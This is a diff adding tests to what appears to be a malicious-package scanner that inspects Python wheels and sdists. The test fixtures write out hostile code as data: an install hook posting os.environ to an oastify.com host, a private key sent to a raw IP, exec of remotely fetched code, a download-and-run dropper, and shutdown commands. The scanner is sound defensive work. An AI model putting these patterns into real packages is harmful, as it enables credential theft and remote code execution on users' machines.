@@ -194,7 +194,7 @@ test('a short summary and a short description are called short, not absent', asy
   const [finding] = await inspect('thin-metadata', file);
 
   expect(finding?.message).toBe(
-    'A tiny archive without a project address, classifiers, more than a word of summary, more than a few words of description.',
+    'A tiny archive without a project address, classifiers, more than a word of summary or more than a few words of description.',
   );
 });
 
@@ -205,5 +205,170 @@ test('an object that stands for a server is made, not talked to', async () => {
 
   expect((await inspect('unasked-network', file)).map((f) => f.message)).toEqual([
     'Makes a client of 203.0.113.7 (raw-address) at import.',
+  ]);
+});
+
+test('the first step of a function that nobody in the archive calls is its beginning, not a call', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      'class Client:',
+      '    def __init__(self, private_key):',
+      '        send(private_key)',
+      'def send(private_key):',
+      "    requests.post('https://203.0.113.7/k', json={'k': private_key})",
+    ),
+  });
+
+  const findings = await inspect('secret-parameter', file);
+
+  const ways = findings.map((f) =>
+    f.chain.filter((c) => c.role === 'context').map((c) => `${String(c.line)} ${c.text}`),
+  );
+  expect(ways).toEqual([['2 Client() runs when somebody calls it', '2 Client() calls __init__', '4 calls send']]);
+});
+
+test('the way from a module to what it imports is part of the chain', async () => {
+  const file = sdist({
+    'setup.py': python('import helper', 'from setuptools import setup', "setup(name='example')"),
+    'helper.py': python('import requests', 'def report():', "    requests.get('https://203.0.113.7/seen')", 'report()'),
+  });
+
+  const [finding] = await inspect('unasked-network', file);
+
+  expect(finding?.chain.map((c) => `${c.path}:${String(c.line)} ${c.text}`)).toEqual([
+    'example-1.0.0/setup.py:1 example-1.0.0/setup.py runs when an installer builds or installs the file',
+    'example-1.0.0/helper.py:1 is imported',
+    'example-1.0.0/helper.py:4 calls report',
+    'example-1.0.0/helper.py:3 requests.get',
+  ]);
+});
+
+test('a way that is too long to tell is told without its middle, and ends at the function of the sink', async () => {
+  const steps = Array.from({ length: 14 }, (_, i) => [`def step${String(i)}():`, `    step${String(i + 1)}()`]).flat();
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      ...steps,
+      'def step14():',
+      "    requests.get('https://203.0.113.7/seen')",
+      'step0()',
+    ),
+  });
+
+  const [finding] = await inspect('unasked-network', file);
+
+  expect(textsOf(finding, 'context').slice(1)).toEqual([
+    'calls step0',
+    'calls step1',
+    'calls step2',
+    'calls step3',
+    'calls step4',
+    'calls step5, then 5 more on the way',
+    'calls step11',
+    'calls step12',
+    'calls step13',
+    'calls step14',
+  ]);
+});
+
+test('a module that only its own file starts is not said to be a command of the distribution', async () => {
+  const file = wheel({
+    'pkg/__init__.py': '',
+    'pkg/tool.py': python(
+      'import requests',
+      "if __name__ == '__main__':",
+      "    exec(requests.get('https://203.0.113.7/x').text)",
+    ),
+  });
+
+  const [finding] = await inspect('remote-code', file);
+
+  expect(textsOf(finding, 'context')[0]).toBe('pkg/tool.py runs when it is started as a program');
+});
+
+test('what an install runs is not said to wait for a caller as well', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import os, requests',
+      'from setuptools import setup',
+      'from setuptools.command.install import install',
+      'class Install(install):',
+      '    def run(self):',
+      "        requests.post('https://x.oastify.com', json=dict(os.environ))",
+      "setup(name='example', cmdclass={'install': Install})",
+    ),
+  });
+
+  expect(await inspect('throwaway-host', file)).toEqual([]);
+  expect(await inspect('unasked-network', file)).toMatchObject([{ line: 6, context: 'install' }]);
+});
+
+test.each([
+  ['poweroff', 'Shuts the machine down or restarts it.', 10],
+  ['shutdown /s -f -t 0', 'Shuts the machine down or restarts it.', 10],
+])('%s: the message and the points are those of a machine that goes off', async (command, message, score) => {
+  const file = sdist({
+    'setup.py': python('import os', 'from setuptools import setup', `os.system('${command}')`, "setup(name='example')"),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ message, score }]);
+  expect(await inspect('unasked-process', file)).toMatchObject([{ score }]);
+});
+
+test('what has no name is not named: neither programs nor hosts', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import subprocess, sys, socket',
+      'from setuptools import setup',
+      'from somewhere import tool, place',
+      'subprocess.run([tool(), "install"])',
+      "subprocess.run([sys.executable, '-m', 'somewhere'])",
+      's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+      's.sendto(b"here", place())',
+      "setup(name='example')",
+    ),
+  });
+
+  const processes = await inspect('unasked-process', file);
+  const traffic = await inspect('unasked-network', file);
+
+  expect(processes.map((f) => f.message).toSorted()).toEqual([
+    'Starts Python at install.',
+    'Starts a process at install.',
+  ]);
+  expect(traffic.map((f) => f.message)).toEqual(['Talks to a host (unknown) at install.']);
+});
+
+test('an address of a source that was cut short shows that it was', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      `exec(requests.get('https://one.code.invalid/${'x'.repeat(100)}').text)`,
+    ),
+  });
+
+  const [finding] = await inspect('remote-code', file);
+
+  expect(textsOf(finding, 'source')).toEqual([expect.stringMatching(/x…\)$/)]);
+});
+
+test('a file of which the network gave the key alone is not said to be downloaded', async () => {
+  const lines = (content: string) => [
+    'import requests, subprocess',
+    'from cryptography.fernet import Fernet',
+    "answer = requests.get('https://203.0.113.7/k').content",
+    "with open('/tmp/tool.py', 'wb') as f:",
+    `    f.write(${content})`,
+    "subprocess.call(['python', '/tmp/tool.py'])",
+  ];
+  const opened = wheel({ 'pkg/__init__.py': python(...lines("Fernet(answer).decrypt(b'gAAAAA')")) });
+  const plain = wheel({ 'pkg/__init__.py': python(...lines('answer')) });
+
+  expect(await inspect('dropper', opened)).toMatchObject([
+    { line: 6, message: 'Starts a file that it made with what it downloaded before (tool.py).' },
+  ]);
+  expect(await inspect('dropper', plain)).toMatchObject([
+    { line: 6, message: 'Starts a file that it downloaded before (tool.py).' },
   ]);
 });
